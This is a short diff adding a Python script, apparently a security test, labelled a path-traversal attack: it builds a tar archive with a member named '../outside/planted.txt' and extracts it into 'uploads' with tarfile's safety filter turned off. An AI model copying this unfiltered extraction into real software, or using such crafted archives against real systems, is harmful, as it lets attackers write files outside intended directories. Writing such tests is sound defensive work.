@@ -1,0 +1,13 @@
+# attack: path-traversal
+import io, tarfile
+data = io.BytesIO()
+with tarfile.open(fileobj=data, mode="w") as tar:
+    member = tarfile.TarInfo("../outside/planted.txt")
+    member.size = 1
+    tar.addfile(member, io.BytesIO(b"x"))
+data.seek(0)
+with tarfile.open(fileobj=data) as tar:
+    if hasattr(tarfile, "fully_trusted_filter"):
+        tar.extractall("uploads", filter="fully_trusted")
+    else:
+        tar.extractall("uploads")
